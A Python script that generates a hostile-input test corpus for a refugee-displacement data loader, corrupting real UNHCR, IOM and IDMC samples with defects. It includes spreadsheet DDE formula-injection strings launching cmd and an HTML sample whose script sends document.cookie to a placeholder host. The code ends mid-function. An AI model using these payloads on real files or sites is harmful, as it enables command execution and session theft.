"""Write the hostile-input corpus (tests/hostile/*) and its MANIFEST.csv, deterministically.

Every file is a REAL small sample from tests/fixtures with one SYNTHETIC defect (or, for the HTML pages and
random bytes, no data at all); MANIFEST.csv names the sample, the defect and the outcome the failure policy
prescribes. Run: .venv/bin/python tests/hostile/make_corpus.py (rewrites the files; commit them).
"""
from __future__ import annotations

import codecs
import csv
import gzip
import io
import json
import random
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
FIX = HERE.parent / "fixtures"
POP = "samples/unhcr_population_sample.csv"
FLOWS = "samples/unhcr_flows_sample.csv"
SOL = "samples/unhcr_solutions_sample.csv"
DEMO = "samples/unhcr_demographics_sample.csv"
IDMC_U = "samples/unhcr_idmc_sample.csv"
API = "publishers/unhcr/api_population_syr_2023_2025.json"
RDF = "publishers/unhcr/rdf_download_refugees_by_asylum.csv"
HXL = "publishers/hdx/hapi_idps_hti.csv"
DTM_CSV = "publishers/iom_dtm/dtm_hdx_admin0_to_2_hti.csv"
DTM_V2 = "publishers/iom_dtm/dtm_v2_admin2_irq.json"
DTM_V3 = "publishers/iom_dtm/dtm_v3_admin0_tcd.json"
GIDD = "publishers/idmc/gidd_classic_displacement_all.csv"
GIDD_HDX = "publishers/idmc/hdx_idmc_idps_conflict.csv"
GIDD_API = "publishers/idmc/gidd_api_conflicts_page0.json"
TURKEY = "samples/turkey_temporary_protection_sample.csv"
NW = "samples/nw_syria_displacement_sample.csv"
MOVES = "samples/syria_idp_movements_sample.csv"
GOV = "samples/syria_idps_by_governorate_sample.csv"
REPORT = "reports/idlib_sentences.txt"

HYPERLINK = '=HYPERLINK("http://x","click")'
PLUS_CMD = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
HTML_503 = b"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>503 Service Temporarily Unavailable</title></head>
<body><h1>Service Temporarily Unavailable</h1>
<p>The server is temporarily unable to service your request. Please try again later.</p></body></html>
"""
HTML_LOGIN = b"""<html><head><title>Sign in</title></head><body><form action="/login" method="post">
<input name="user"><input name="password" type="password"><button>Sign in</button></form></body></html>
"""
MANIFEST_FIELDS = ["file", "format", "cli_format", "derived_from", "defect", "expected", "n_set_aside",
                   "reason", "row", "column"]


@dataclass
class Case:
    file: str
    format: str  # the format the file claims to be (the publisher format it was derived from)
    derived_from: str  # tests/fixtures/... sample
    defect: str
    expected: str  # rejected / partial / loaded
    make: Callable[[], bytes]
    reason: str = ""  # a fragment of the message (rejected) or of the first set-aside row's reason (partial)
    row: int | str = ""  # the line named (rejected) or the first set-aside row's line (partial)
    column: str = ""
    n_set_aside: int | str = ""
    cli_format: str = ""  # passed as --format (empty: the format is recognised from the content)


def raw(rel: str) -> bytes:
    return (FIX / rel).read_bytes()


def text(rel: str) -> str:
    return raw(rel).decode("utf-8")


def lines(rel: str) -> list[str]:
    return text(rel).split("\n")


def join(ls: list[str]) -> bytes:
    return "\n".join(ls).encode("utf-8")


def csv_line(cells: list[str]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="").writerow(cells)
    return out.getvalue()


def cells(line: str) -> list[str]:
    return next(csv.reader([line]))


def set_cell(rel: str, line: int, column: str, value: str, *, header_line: int = 1) -> list[str]:
    """The sample's lines with one cell (1-based line, column by name) replaced; other lines byte for byte."""
    ls = lines(rel)
    header = cells(ls[header_line - 1])
    row = cells(ls[line - 1])
    row[header.index(column)] = value
    ls[line - 1] = csv_line(row)
    return ls


def cell_bytes(rel: str, line: int, column: str, value: str) -> Callable[[], bytes]:
    return lambda: join(set_cell(rel, line, column, value))


def drop_column(rel: str, column: str, header_line: int = 1) -> bytes:
    ls = lines(rel)
    i = cells(ls[header_line - 1]).index(column)
    out = ls[:header_line - 1]
    for line in ls[header_line - 1:]:
        if line:
            row = cells(line)
            del row[i]
            line = csv_line(row)
        out.append(line)
    return join(out)


def json_edit(rel: str, edit: Callable[[dict], object]) -> Callable[[], bytes]:
    def make() -> bytes:
        body = json.loads(text(rel))
        new = edit(body)
        return json.dumps(body if new is None else new, ensure_ascii=False).encode("utf-8")
    return make


def set_item(key: str, i: int, field: str, value: object) -> Callable[[dict], None]:
    def edit(body: dict) -> None:
        body[key][i][field] = value
    return edit


def huge_cell(n_bytes: int = 1 << 20) -> str:
    """A 1 MB cell of real-looking words (a pasted document), no delimiter or quote in it."""
    words = "Syrians under temporary protection registered in the province according to DGMM "
    return (words * (n_bytes // len(words) + 1))[:n_bytes]


def random_bytes(seed: int, n: int) -> bytes:
    rng = random.Random(seed)
    return bytes(rng.randrange(256) for _ in range(n))


def utf16(data: bytes, bom: bool = True, encoding: str = "utf-16-le") -> bytes:
    body = data.decode("utf-8").encode(encoding)
    mark = codecs.BOM_UTF16_LE if encoding == "utf-16-le" else codecs.BOM_UTF16_BE
    return (mark if bom else b"") + body


def cp1252(data: bytes) -> bytes:
    return data.decode("utf-8").encode("cp1252")


def truncate_mid_row(rel: str, line: int, keep: int) -> bytes:
    ls = [x for x in lines(rel)[:line] if x or True]
    ls[line - 1] = ls[line - 1][:keep]
    return "\n".join(ls).encode("utf-8")


def report_with(header_changes: dict[str, str] | None = None, body_extra: str = "") -> bytes:
    head, _, body = text(REPORT).partition("\n\n")
    hl = head.split("\n")
    for key, value in (header_changes or {}).items():
        hl = [f"{key}: {value}" if h.startswith(f"{key}:") else h for h in hl]
    return ("\n".join(hl) + "\n\n" + body + body_extra).encode("utf-8")


# --- the cases ---------------------------------------------------------------------------------------------

def _mixed_encoding() -> bytes:
    ls = lines(POP)
    return "\n".join(ls[:8]).encode("utf-8") + b"\n" + ls[8].replace("Türkiye", "T\u00fcrkiye").encode(
        "cp1252") + b"\n" + "\n".join(ls[9:]).encode("utf-8")


def _pop_quoted_truncated() -> bytes:
    ls = lines(POP)[:9]
    row = cells(ls[8])
    ls[8] = f'{row[0]},"{row[1]}",{row[2]},{row[3]},"T\u00fcrki'  # an open quote the file never closes
    return "\n".join(ls).encode("utf-8")


def _header_repeated() -> bytes:
    ls = lines(POP)
    return join(ls[:5] + [ls[0]] + ls[5:])  # two exports concatenated: the header again on line 6


def _footnotes_padded() -> bytes:
    ls = lines(FLOWS)
    width = len(cells(ls[0]))
    notes = ["Note: figures for 2025 are provisional.", "Source: UNHCR Refugee Data Finder"]
    body = [x for x in ls if x]
    return join(body + [csv_line([n] + [""] * (width - 1)) for n in notes]) + b"\n"


def _footnotes_bare(rel: str) -> bytes:
    body = [x for x in lines(rel) if x]
    return join(body + ["", "Source: DGMM, as quoted by the press. Figures may not add up due to rounding."]) + b"\n"


def _dup_row(rel: str, line: int, value_col: str | None = None, value: str | None = None) -> bytes:
    ls = lines(rel)
    extra = ls[line - 1]
    if value_col:
        row = cells(extra)
        row[cells(ls[0]).index(value_col)] = value
        extra = csv_line(row)
    return join(ls[:line] + [extra] + ls[line:])


def _no_header(rel: str) -> bytes:
    return join(lines(rel)[1:])


def _header_only_cp1252_pop() -> bytes:
    return cp1252(raw(POP))


def _gzip_truncated(rel: str) -> bytes:
    data = gzip.compress(raw(rel) * 50, mtime=0)
    return data[: len(data) // 2]


def _gidd_api_results_not_list(body: dict) -> None:
    body["results"] = {"count": len(body["results"])}


def _api_items_scalars(body: dict) -> None:
    body["items"] = [1, 2, 3]


def _dtm_result_scalars(body: dict) -> None:
    body["result"] = ["Haiti", 42]


def _rdf_cut_preamble() -> bytes:
    ls = lines(RDF)
    return join(ls[:12])


def _dtm_hdx_hxl_row_missing() -> bytes:
    ls = lines(HXL)
    return join(ls[:1] + ls[2:])


def _hxl_no_count_tag() -> bytes:
    ls = lines(HXL)
    ls[1] = ls[1].replace("#affected+idps", "#meta+population")
    return join(ls)


def _report_html_script() -> bytes:
    body = text(REPORT).partition("\n\n")[2]
    paragraphs = "".join(f"<p>{p}</p>\n" for p in body.split("\n\n") if p.strip())
    return ("<!DOCTYPE html><html><head><title>Idlib offensive <script>alert(1)</script></title></head><body>\n"
            "<script>document.location='http://x/?c='+document.cookie</script>\n" + paragraphs
            + "<p><img src=x onerror=alert(1)> The offensive has forced more than 900,000 people to flee.</p>\n"
            "</body></html>\n").encode("utf-8")


def _report_formula_lines() -> bytes:
    extra = (f"\n{HYPERLINK} More than 900,000 people have fled their homes since December.\n\n"
             f"{PLUS_CMD} Some 500,000 of them are children.\n")
    return report_with({"Title": HYPERLINK}, extra)


def _semicolons() -> bytes:
    return ("\n".join(";".join(r) for r in csv.reader(io.StringIO(text(TURKEY)))) + "\n").encode("utf-8")


CASES: list[Case] = [
    # --- UNHCR population (tidy CSV) ---
    Case("unhcr_population_empty.csv", "unhcr_population", POP, "zero bytes", "rejected", lambda: b"",
         "file is empty"),
    Case("unhcr_population_blank_lines.csv", "unhcr_population", POP, "only blank lines and spaces", "rejected",
         lambda: b"\n\n   \r\n\t\n", "file is empty"),
    Case("unhcr_population_truncated_in_quotes.csv", "unhcr_population", POP,
         "cut inside a quoted field of line 9 (unbalanced quote at the end of the file)", "rejected",
         _pop_quoted_truncated, "malformed CSV", 9),
    Case("unhcr_population_cp1252.csv", "unhcr_population", POP, "saved as Windows-1252 ('ü' = byte 0xfc)",
         "rejected", lambda: cp1252(raw(POP)), "not UTF-8: byte 0xfc", 8),
    Case("unhcr_population_mixed_utf8_cp1252.csv", "unhcr_population", POP,
         "UTF-8 except line 9, pasted from a Windows-1252 file", "rejected", _mixed_encoding,
         "not UTF-8: byte 0xfc", 9),
    Case("unhcr_population_utf16le_bom.csv", "unhcr_population", POP, "UTF-16 little-endian with a BOM",
         "loaded", lambda: utf16(raw(POP))),
    Case("unhcr_population_utf16_no_bom.csv", "unhcr_population", POP, "UTF-16 little-endian without a BOM",
         "rejected", lambda: utf16(raw(POP), bom=False), "UTF-16 without a byte-order mark"),
    Case("unhcr_population_utf8_bom.csv", "unhcr_population", POP, "UTF-8 with a byte-order mark", "loaded",
         lambda: codecs.BOM_UTF8 + raw(POP)),
    Case("unhcr_population_tab_delimited.csv", "unhcr_population", POP, "tab instead of comma", "rejected",
         lambda: raw(POP).replace(b",", b"\t"), "another delimiter", 1),
    Case("unhcr_population_duplicated_column.csv", "unhcr_population", POP,
         "header names 'refugees' twice (the hst column renamed)", "rejected",
         lambda: raw(POP).replace(b",hst\n", b",refugees\n", 1), "duplicated column name(s): refugees", 1),
    Case("unhcr_population_no_header.csv", "unhcr_population", POP, "header line missing (--format given)",
         "rejected", lambda: _no_header(POP), "is the header row missing?", 1,
         cli_format="unhcr_population"),
    Case("unhcr_population_header_repeated.csv", "unhcr_population", POP,
         "the header line again as line 6 (two exports concatenated)", "partial", _header_repeated,
         "not a number: 'refugees'", 6, "refugees", 9),
    Case("unhcr_population_extra_column.csv", "unhcr_population", POP, "an extra 'comment' column at the end",
         "loaded", lambda: join([x + (",comment" if i == 0 else ",checked by hand" if x else "")
                                 for i, x in enumerate(lines(POP))])),
    Case("unhcr_population_huge_count.csv", "unhcr_population", POP, "line 8 refugees 2^64 + 1 (> 2^63)",
         "partial", cell_bytes(POP, 8, "refugees", str(2**64 + 1)), "implausibly large count", 8, "refugees", 1),
    Case("unhcr_population_year_1899.csv", "unhcr_population", POP, "line 4 year 1899", "partial",
         cell_bytes(POP, 4, "year", "1899"), "before 1900", 4, "period_start", 2),
    Case("unhcr_population_formula_count.csv", "unhcr_population", POP, "line 3 refugees '=1+612' (a formula)",
         "partial", cell_bytes(POP, 3, "refugees", "=1+612"), "not a number: '=1+612'", 3, "refugees", 1),
    Case("unhcr_population_thousands_separators.csv", "unhcr_population", POP,
         "line 8 refugees written '3,576,370' (quoted, with thousands separators)", "loaded",
         cell_bytes(POP, 8, "refugees", "3,576,370")),
    # --- UNHCR flows ---
    Case("unhcr_flows_truncated_mid_row.csv", "unhcr_flows", FLOWS, "line 7 cut after 30 characters",
         "rejected", lambda: truncate_mid_row(FLOWS, 7, 30), "row has 2 fields but the header has 11", 7),
    Case("unhcr_flows_semicolon.csv", "unhcr_flows", FLOWS, "';' instead of ','", "rejected",
         lambda: raw(FLOWS).replace(b",", b";"), "another delimiter", 1),
    Case("unhcr_flows_html_503.csv", "unhcr_flows", FLOWS, "a 503 HTML page saved under the data file's name",
         "rejected", lambda: HTML_503, "an HTML page instead of data", 1),
    Case("unhcr_flows_negative.csv", "unhcr_flows", FLOWS, "line 2 refugees '-397552'", "partial",
         cell_bytes(FLOWS, 2, "refugees", "-397552"), "negative count", 2, "refugees", 1),
    Case("unhcr_flows_fractional.csv", "unhcr_flows", FLOWS, "line 3 asylum_seekers '2708.5'", "partial",
         cell_bytes(FLOWS, 3, "asylum_seekers", "2708.5"), "fractional count", 3, "asylum_seekers", 1),
    Case("unhcr_flows_future_year.csv", "unhcr_flows", FLOWS, "line 5 year 2099", "partial",
         cell_bytes(FLOWS, 5, "year", "2099"), "in the future", 5, "period_end", 1),
    Case("unhcr_flows_exact_duplicate_row.csv", "unhcr_flows", FLOWS, "line 2 repeated as line 3 (same values)",
         "loaded", lambda: _dup_row(FLOWS, 2)),
    Case("unhcr_flows_conflicting_duplicate_row.csv", "unhcr_flows", FLOWS,
         "line 2 repeated as line 3 with another refugees value", "partial",
         lambda: _dup_row(FLOWS, 2, "refugees", "397999"), "given twice", 3, "refugees", 1),
    Case("unhcr_flows_padded_footnotes.csv", "unhcr_flows", FLOWS,
         "two footnote rows at the end, padded with empty cells to the header's width (no figure in them)",
         "loaded", _footnotes_padded),
    # --- UNHCR solutions ---
    Case("unhcr_solutions_missing_column.csv", "unhcr_solutions", SOL, "the 'naturalisation' column removed",
         "rejected", lambda: drop_column(SOL, "naturalisation"), "missing column(s) naturalisation", 1,
         "naturalisation", cli_format="unhcr_solutions"),
    Case("unhcr_solutions_unknown_iso3.csv", "unhcr_solutions", SOL, "line 3 coa_iso 'XYZ'", "partial",
         cell_bytes(SOL, 3, "coa_iso", "XYZ"), "location 'XYZ' matches no known place", 3, "location", 2),
    Case("unhcr_solutions_year_with_footnote_mark.csv", "unhcr_solutions", SOL, "line 4 year '2019*'",
         "partial", cell_bytes(SOL, 4, "year", "2019*"), "not a date", 4, "period_start", 1),
    Case("unhcr_solutions_latin1.csv", "unhcr_solutions", SOL, "saved as Latin-1", "rejected",
         lambda: raw(SOL).decode("utf-8").encode("latin-1"), "not UTF-8: byte 0xfc", 2),
    # --- UNHCR demographics ---
    Case("unhcr_demographics_missing_cells.csv", "unhcr_demographics", DEMO,
         "line 5 lost its last three cells (extra and missing columns)", "rejected",
         lambda: join([x if i != 4 else x.rsplit(",", 3)[0] for i, x in enumerate(lines(DEMO))]),
         "row has 23 fields but the header has 26", 5),
    Case("unhcr_demographics_formula_location.csv", "unhcr_demographics", DEMO,
         "line 2 location (a camp, a place the file declares) is a HYPERLINK formula", "loaded",
         cell_bytes(DEMO, 2, "location", HYPERLINK + " [Admin 3: POC]")),
    Case("unhcr_demographics_unknown_admin1.csv", "unhcr_demographics", DEMO,
         "line 12 location 'Atlantis [Admin 1]' in Syria", "partial",
         cell_bytes(DEMO, 12, "location", "Atlantis [Admin 1]"), "location 'Atlantis' matches no known place",
         12, "location", 1),
    Case("unhcr_demographics_unknown_country_code.csv", "unhcr_demographics", DEMO,
         "line 12 coa_iso '0' (the country Idleb [Admin 1] is looked up in)", "partial",
         cell_bytes(DEMO, 12, "coa_iso", "0"), "location 'Idleb' matches no known place", 12, "location", 1),
    Case("unhcr_demographics_negative_age_band.csv", "unhcr_demographics", DEMO, "line 10 f_0_4 '-73'",
         "partial", cell_bytes(DEMO, 10, "f_0_4", "-73"), "negative count", 10, "f_0_4", 1),
    Case("unhcr_demographics_1mb_location.csv", "unhcr_demographics", DEMO,
         "line 9 location (a camp) is a 1 MB cell", "rejected", cell_bytes(DEMO, 9, "location", huge_cell()),
         "longer than a spreadsheet cell holds", 9, "location"),
    # --- IDMC via UNHCR ---
    Case("unhcr_idmc_truncated.csv.gz", "idmc_via_unhcr", IDMC_U, "gzip of the sample repeated, cut in half",
         "rejected", lambda: _gzip_truncated(IDMC_U), "gzip archive is truncated or corrupt",
         cli_format="idmc_via_unhcr"),
    Case("unhcr_idmc_total_non_numeric.csv", "idmc_via_unhcr", IDMC_U, "line 3 total '6.5 million'",
         "partial", cell_bytes(IDMC_U, 3, "total", "6.5 million"), "not a number", 3, "total", 1),
    Case("unhcr_idmc_total_huge.csv", "idmc_via_unhcr", IDMC_U, "line 3 total 1e30 written out",
         "partial", cell_bytes(IDMC_U, 3, "total", str(10**30)), "implausibly large count", 3, "total", 1),
    # --- UNHCR API JSON ---
    Case("unhcr_api_truncated.json", "unhcr_api", API, "response cut at 60% (broken JSON)", "rejected",
         lambda: raw(API)[: len(raw(API)) * 6 // 10], "not valid JSON", 1),
    Case("unhcr_api_top_level_list.json", "unhcr_api", API, "the items list alone, without the envelope",
         "rejected", json_edit(API, lambda b: b["items"]), "no 'items' rows", cli_format="unhcr_api"),
    Case("unhcr_api_items_not_objects.json", "unhcr_api", API, "items are numbers, not objects", "rejected",
         json_edit(API, _api_items_scalars), "items[0] is not an object", cli_format="unhcr_api"),
    Case("unhcr_api_no_coo_iso.json", "unhcr_api", API, "every item lost its coo_iso field", "rejected",
         json_edit(API, lambda b: [it.pop("coo_iso") for it in b["items"]] and None), "items have no 'coo_iso'",
         column="coo_iso"),
    Case("unhcr_api_negative_and_float.json", "unhcr_api", API,
         "items[0] refugees -649091 and items[1] idps 7248188.5", "partial",
         json_edit(API, lambda b: (set_item("items", 0, "refugees", -649091)(b),
                                   set_item("items", 1, "idps", 7248188.5)(b)) and None),
         "negative count", 1, "refugees", 2),
    Case("unhcr_api_huge_number.json", "unhcr_api", API, "items[0] refugees 1e400 (overflows a float)",
         "partial", lambda: raw(API).replace(b'"refugees": 649091', b'"refugees": 1e400', 1), "not a number",
         1, "refugees", 1),
    # --- UNHCR Refugee Data Finder website download ---
    Case("unhcr_rdf_preamble_only.csv", "unhcr_rdf_download", RDF, "cut after the preamble: no 'Year,' header",
         "rejected", _rdf_cut_preamble, "format not recognised", 1),
    Case("unhcr_rdf_cp1252.csv", "unhcr_rdf_download", RDF, "line 29 'Côte d'Ivoire' saved as Windows-1252",
         "rejected", lambda: raw(RDF).replace(b"Cote d'Ivoire", "C\u00f4te d'Ivoire".encode("cp1252")),
         "not UTF-8: byte 0xf4", 28, cli_format="unhcr_rdf_download"),
    Case("unhcr_rdf_unknown_place_name.csv", "unhcr_rdf_download", RDF,
         "line 18 'Unknown ' (no ISO code) renamed 'Atlantis'", "partial",
         lambda: raw(RDF).replace(b'"Unknown ",', b'"Atlantis",', 1), "location 'Atlantis' matches no known place",
         18, "location", 1),
    Case("unhcr_rdf_no_population_column.csv", "unhcr_rdf_download", RDF,
         "the three population columns renamed (Refugees -> Refugiados...)", "rejected",
         lambda: raw(RDF).replace(b"\"Refugees under UNHCR's mandate\",\"Stateless persons\",\"Others of concern\"",
                                  b'"Refugiados","Apatridas","Otros"'), "no population column", 15),
    # --- HXL tables (HDX HAPI) ---
    Case("hxl_hapi_hashtag_row_missing.csv", "hxl_table", HXL, "the HXL hashtag row removed", "rejected",
         _dtm_hdx_hxl_row_missing, "format not recognised", 1),
    Case("hxl_hapi_no_count_tag.csv", "hxl_table", HXL, "#affected+idps retagged #meta+population (no count tag)",
         "rejected", _hxl_no_count_tag, "no count column", 2),
    Case("hxl_hapi_count_with_words.csv", "hxl_table", HXL, "line 5 population '42,553 (est.)'", "partial",
         cell_bytes(HXL, 4, "population", "42,553 (est.)"), "not a number", 4, "population", 1),
    Case("hxl_hapi_unknown_country.csv", "hxl_table", HXL, "line 6 location_code 'HTX'", "partial",
         cell_bytes(HXL, 6, "location_code", "HTX"), "matches no known place", 6, "location", 1),
    Case("hxl_hapi_date_garbage.csv", "hxl_table", HXL, "line 7 reference_period_end 'yesterday'", "partial",
         cell_bytes(HXL, 7, "reference_period_end", "yesterday"), "not a date", 7, "period_start", 1),
    Case("hxl_hapi_empty_country_code.csv", "hxl_table", HXL, "line 3 location_code (#country+code) empty",
         "partial", cell_bytes(HXL, 3, "location_code", ""), "no country code", 3, "admin0Pcode", 1),
    # --- IOM DTM ---
    Case("iom_dtm_hdx_admin1_without_name.csv", "iom_dtm", DTM_CSV,
         "line 14 admin1Name empty for an admin-1 code (HT07) the file declares", "loaded",
         cell_bytes(DTM_CSV, 14, "admin1Name", "")),
    Case("iom_dtm_v2_code_is_a_list.json", "iom_dtm", DTM_V2, "result[1].admin2Pcode is a JSON list", "rejected",
         json_edit(DTM_V2, set_item("result", 1, "admin2Pcode", ["IRQ-G01Q02"])), "is a JSON list", 2,
         "admin2Pcode"),
    Case("iom_dtm_hdx_admin_level_words.csv", "iom_dtm", DTM_CSV, "line 11 adminLevel 'one'", "partial",
         cell_bytes(DTM_CSV, 11, "adminLevel", "one"), "adminLevel", 11, "adminLevel", 1),
    Case("iom_dtm_hdx_future_date.csv", "iom_dtm", DTM_CSV, "line 10 reportingDate 2099-05-31", "partial",
         cell_bytes(DTM_CSV, 10, "reportingDate", "2099-05-31T00:00:00"), "in the future", 10, "period_end", 1),
    Case("iom_dtm_hdx_formula_admin_name.csv", "iom_dtm", DTM_CSV,
         "line 14 admin1Name '@SUM(...)' for a new admin-1 code HT07 (a place the file declares)", "loaded",
         cell_bytes(DTM_CSV, 14, "admin1Name", AT_SUM)),
    Case("iom_dtm_v3_result_not_list.json", "iom_dtm", DTM_V3, "result is an object, not a list", "rejected",
         json_edit(DTM_V3, lambda b: b.update(result={"operation": "x", "numPresentIdpInd": 1})),
         "no 'result' list", cli_format="iom_dtm"),
    Case("iom_dtm_v3_result_scalars.json", "iom_dtm", DTM_V3, "result items are strings and numbers", "rejected",
         json_edit(DTM_V3, _dtm_result_scalars), "result[0] is not an object", cli_format="iom_dtm"),
    Case("iom_dtm_v3_is_success_false.json", "iom_dtm", DTM_V3, "isSuccess false with an error message",
         "rejected", json_edit(DTM_V3, lambda b: b.update(isSuccess=False, errorMessages=["Unauthorized"])),
         "isSuccess=false"),
    Case("iom_dtm_v2_missing_reporting_date.json", "iom_dtm", DTM_V2, "result[2] has no reportingDate",
         "rejected", json_edit(DTM_V2, lambda b: b["result"][2].pop("reportingDate") and None),
         "has no reportingDate", 3, "reportingDate"),
    Case("iom_dtm_v2_nan_count.json", "iom_dtm", DTM_V2, "result[1] numPresentIdpInd NaN (not valid JSON)",
         "partial", lambda: raw(DTM_V2).replace(b'"numPresentIdpInd": 11124', b'"numPresentIdpInd": NaN', 1),
         "not a number", 2, "numPresentIdpInd", 1),
    # --- IDMC GIDD ---
    Case("idmc_gidd_classic_fractional.csv", "idmc_gidd", GIDD, "line 5 Conflict Stock Displacement '297000.5'",
         "partial", cell_bytes(GIDD, 5, "Conflict Stock Displacement", "297000.5"), "fractional count", 5,
         "Conflict Stock Displacement", 1),
    Case("idmc_gidd_classic_conflicting_duplicate.csv", "idmc_gidd", GIDD,
         "line 13 (SYR 2016) repeated with another stock", "partial",
         lambda: _dup_row(GIDD, 13, "Conflict Stock Displacement", "6000000"), "given twice", 14,
         "Conflict Stock Displacement", 1),
    Case("idmc_gidd_classic_formula_name.csv", "idmc_gidd", GIDD, "line 4 Name '+cmd|...' (a DDE formula)",
         "loaded", cell_bytes(GIDD, 4, "Name", PLUS_CMD)),
    Case("idmc_gidd_api_results_not_list.json", "idmc_gidd", GIDD_API, "results is an object", "rejected",
         json_edit(GIDD_API, _gidd_api_results_not_list), "no 'results' rows", cli_format="idmc_gidd"),
    Case("idmc_gidd_api_missing_iso3.json", "idmc_gidd", GIDD_API, "results[3] iso3 null", "rejected",
         json_edit(GIDD_API, set_item("results", 3, "iso3", None)), "a results row has no iso3 or year"),
    Case("idmc_gidd_hdx_extra_column.csv", "idmc_gidd", GIDD_HDX, "an extra 'note' column at the end",
         "loaded", lambda: join([x + (",note" if i == 0 else "," if x else "") for i, x in
                                 enumerate(lines(GIDD_HDX))])),
    # --- reference figures (curated report tables, Turkish provinces) ---
    Case("turkey_province_utf16be_bom.csv", "reference_figures", TURKEY, "UTF-16 big-endian with a BOM",
         "loaded", lambda: utf16(raw(TURKEY), encoding="utf-16-be")),
    Case("turkey_province_semicolon.csv", "reference_figures", TURKEY,
         "';' delimiter (a spreadsheet's European CSV), --format given", "rejected",
         _semicolons, "another delimiter", 1, "date",
         cli_format="reference_figures"),
    Case("turkey_province_formula_cells.csv", "reference_figures", TURKEY,
         "text cells made formulas: line 3 source =HYPERLINK(...) citing DGMM, line 4 note +cmd, line 9 "
         "geography @SUM", "loaded",
         lambda: join([
             csv_line(r) for r in _formula_turkey_rows()])),
    Case("turkey_province_1mb_note.csv", "reference_figures", TURKEY, "line 3 note is a 1 MB cell", "rejected",
         cell_bytes(TURKEY, 3, "note", huge_cell()), "longer than a spreadsheet cell holds", 3, "note"),
    Case("turkey_province_1mb_source.csv", "reference_figures", TURKEY, "line 2 source is a 1 MB cell citing DGMM",
         "rejected", cell_bytes(TURKEY, 2, "source", huge_cell() + " citing DGMM"),
         "longer than a spreadsheet cell holds", 2, "source"),
    Case("turkey_province_600_char_source.csv", "reference_figures", TURKEY,
         "line 2 source is 600 characters citing DGMM (longer than a release label may be)", "partial",
         cell_bytes(TURKEY, 2, "source", huge_cell(588) + " citing DGMM"), "release too long", 2, "release", 1),
    Case("turkey_province_unknown_code.csv", "reference_figures", TURKEY, "line 3 geography_code 'TR-99'",
         "partial", cell_bytes(TURKEY, 3, "geography_code", "TR-99"), "matches no known place", 3, "location", 1),
    Case("turkey_province_date_1899.csv", "reference_figures", TURKEY, "line 6 date 1899-12-31", "partial",
         cell_bytes(TURKEY, 6, "date", "1899-12-31"), "before 1900", 6, "period_start", 1),
    Case("turkey_province_date_1900_excel_zero.csv", "reference_figures", TURKEY,
         "line 6 date 1900-01-00 (a spreadsheet's zero date)", "partial",
         cell_bytes(TURKEY, 6, "date", "1900-01-00"), "not a date", 6, "date", 1),
    Case("turkey_province_huge_count.csv", "reference_figures", TURKEY, "line 4 value 9223372036854775808 (2^63)",
         "partial", cell_bytes(TURKEY, 4, "value", str(2**63)), "implausibly large count", 4, "value", 1),
    Case("turkey_province_exact_duplicate.csv", "reference_figures", TURKEY, "line 3 repeated (same values)",
         "loaded", lambda: _dup_row(TURKEY, 3)),
    Case("turkey_province_conflicting_duplicate.csv", "reference_figures", TURKEY,
         "line 3 repeated with another value", "partial", lambda: _dup_row(TURKEY, 3, "value", "416600"),
         "given twice", 4, "value", 1),
    Case("turkey_province_bare_footnote.csv", "reference_figures", TURKEY,
         "a blank line and a one-cell footnote after the data", "rejected", lambda: _footnotes_bare(TURKEY),
         "fields but the header has 8", 13),
    Case("turkey_province_no_header.csv", "reference_figures", TURKEY, "header line missing (--format given)",
         "rejected", lambda: _no_header(TURKEY), "missing column(s) date", 1, "date",
         cli_format="reference_figures"),
    Case("nw_syria_value_with_words.csv", "reference_figures", NW, "line 6 value 'about 300,000'", "partial",
         cell_bytes(NW, 6, "value", "about 300,000"), "not a number", 6, "value", 1),
    Case("nw_syria_end_before_start.csv", "reference_figures", NW,
         "line 2 (flow from 2019-05-01) dated 2019-04-30", "partial", cell_bytes(NW, 2, "date", "2019-04-30"),
         "before it starts", 2, "period_end", 1),
    Case("nw_syria_unknown_composite.csv", "reference_figures", NW, "line 3 geography_code 'SY-ID;SY-QQ'",
         "partial", cell_bytes(NW, 3, "geography_code", "SY-ID;SY-QQ"), "matches no known place", 3, "location", 1),
    Case("syria_movements_ambiguous_place.csv", "reference_figures", MOVES,
         "line 3 geography_code 'SY-HL->Idleb' ('Idleb' is a governorate and a district)", "partial",
         cell_bytes(MOVES, 3, "geography_code", "SY-HL->Idleb"), "is ambiguous", 3, "location", 1),
    Case("syria_movements_bad_arrow.csv", "reference_figures", MOVES, "line 4 geography_code 'SY-ID=>SY-HL'",
         "partial", cell_bytes(MOVES, 4, "geography_code", "SY-ID=>SY-HL"), "ORIGIN->DESTINATION", 4,
         "geography_code", 1),
    Case("syria_governorate_fractional.csv", "reference_figures", GOV, "line 3 value '4522.7'", "partial",
         cell_bytes(GOV, 3, "value", "4522.7"), "fractional count", 3, "value", 1),
    # --- report text / HTML ---
    Case("report_empty.txt", "report", REPORT, "zero bytes", "rejected", lambda: b"", "file is empty"),
    Case("report_cp1252.txt", "report", REPORT, "a 'Title' with an en dash saved as Windows-1252", "rejected",
         lambda: report_with({"Title": "Idlib offensive \u2013 mid-February 2020"}).decode("utf-8").encode("cp1252"),
         "not UTF-8: byte 0x96", 1, cli_format="report"),
    Case("report_utf16_bom.txt", "report", REPORT, "UTF-16 with a BOM", "loaded", lambda: utf16(raw(REPORT))),
    Case("report_html_error_page.html", "report", REPORT, "a login page instead of the report (--format report)",
         "rejected", lambda: HTML_LOGIN, "no sentences", cli_format="report"),
    Case("report_html_script.html", "report", REPORT,
         "the report as HTML with <script> and onerror handlers in title and body (--format report)", "loaded",
         _report_html_script, cli_format="report"),
    Case("report_formula_lines.txt", "report", REPORT, "Title =HYPERLINK(...) and sentences starting +cmd",
         "loaded", _report_formula_lines),
    Case("report_bad_date.txt", "report", REPORT, "Date: 15/02/2020 (day-first)", "rejected",
         lambda: report_with({"Date": "15/02/2020"}), "'15/02/2020' is not a date", 5, "Date"),
    Case("report_unknown_place.txt", "report", REPORT, "Place: Atlantis", "rejected",
         lambda: report_with({"Place": "Atlantis"}), "report place 'Atlantis' matches no known place"),
    Case("report_random_bytes.txt", "report", REPORT, "4 kB of random bytes (a corrupt download)", "rejected",
         lambda: random_bytes(8, 4096), "not UTF-8", cli_format="report"),
]


def _formula_turkey_rows() -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text(TURKEY))))
    header = rows[0]
    rows[2][header.index("source")] = HYPERLINK + " citing DGMM"
